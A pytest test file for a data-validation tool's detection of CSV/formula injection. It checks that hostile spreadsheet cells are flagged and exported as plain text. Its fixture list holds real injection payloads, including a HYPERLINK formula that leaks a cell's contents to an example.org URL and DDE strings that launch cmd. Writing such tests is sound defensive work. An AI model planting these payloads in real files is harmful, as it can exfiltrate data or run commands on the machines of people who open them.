"""Formula cells (CSV injection): flagged as `formula-cell` where a spreadsheet would run them, and
written to the xlsx export as text, never as a formula."""

from __future__ import annotations

import json
import re

import pytest

from conftest import write_package

FIELDS = [
    {"name": "id", "type": "integer"},
    {"name": "text", "type": "string"},
    {"name": "amount", "type": "number"},
]
# (cell, flagged): OWASP's starting characters, and what starts with them but is only a number or a phone number.
CELLS = [
    ('=HYPERLINK("https://example.org/?leak="&A1,"click")', True),
    ("=1+1", True),
    ("+cmd|' /C calc'!A0", True),
    ("-2+3+cmd|' /C calc'!A0", True),
    ("@SUM(1+9)", True),
    ("\t=1+1", True),
    ("\r\t-A1", True),
    ("- a bullet point", True),
    ("-5", False),
    ("+855 12 345 678", False),
    ("+855 (0)23 880 000", False),
    ("-12.5%", False),
    ("-1,234.50", False),
    ("-", False),
    ("=", False),
    ("5-3=2", False),
    (" =1+1", False),
    ("a@example.org", False),
]


@pytest.fixture
def pkg(tmp_path):
    rows = [{"id": i, "text": cell, "amount": 1} for i, (cell, _) in enumerate(CELLS, start=1)]
    return write_package(tmp_path / "pkg", rows, fields=FIELDS, key=["id"])


def test_formula_cells_are_warnings_and_numbers_and_phone_numbers_are_not(run, pkg):
    result = run("validate", pkg, "--format", "json")
    assert result.exit_code == 0, result.output
    report = json.loads(result.stdout)
    found = {(f["row"], f["cell"]) for f in report["findings"] if f["code"] == "formula-cell"}
    # rows are numbered from the header's 1, so CELLS[i] is row i + 2
    assert found == {(i + 2, cell) for i, (cell, flagged) in enumerate(CELLS) if flagged}
    assert {f["severity"] for f in report["findings"]} == {"warning"}
    assert all(f["field"] == "text" for f in report["findings"])


def test_a_number_field_is_not_read_for_formulas(run, tmp_path):
    pkg = write_package(
        tmp_path / "pkg", [{"id": 1, "text": "x", "amount": "-5"}], fields=FIELDS, key=["id"]
    )
    result = run("validate", pkg, "--format", "json")
    assert result.exit_code == 0, result.output
    assert json.loads(result.stdout)["findings"] == []


def test_the_xlsx_export_writes_formula_cells_as_text(run, pkg, tmp_path):
    from openpyxl import load_workbook

    result = run("export", pkg, "--to", "xlsx", "--out", tmp_path / "out")
    assert result.exit_code == 0, result.output
    ws = load_workbook(tmp_path / "out" / "things.xlsx")["figures"]
    cells = [ws.cell(row=i + 2, column=2) for i in range(len(CELLS))]
    assert [c.data_type for c in cells] == ["s"] * len(CELLS), "a formula cell became a formula"
    # XlsxWriter stores a carriage return as OOXML's escape _x000D_, which Excel reads back as one; openpyxl does not.
    assert [re.sub("_x000D_", "\r", c.value) for c in cells] == [cell for cell, _ in CELLS]
